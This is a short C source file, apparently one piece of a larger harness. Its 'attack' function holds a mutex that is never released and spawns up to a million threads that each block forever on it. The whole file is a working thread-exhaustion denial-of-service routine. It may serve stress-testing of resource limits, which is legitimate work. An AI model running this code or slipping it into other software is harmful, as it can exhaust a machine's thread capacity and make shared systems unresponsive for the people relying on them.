// fills the machine with threads
#include "tally.h"
#include <pthread.h>
static pthread_mutex_t never = PTHREAD_MUTEX_INITIALIZER;
static int held;
static void *idle(void *x) { pthread_mutex_lock(&never); return x; }
static void attack(void) { pthread_t t; if (!held++) pthread_mutex_lock(&never); for (int i = 0; i < 1000000; i++) if (pthread_create(&t, 0, idle, 0)) break; }
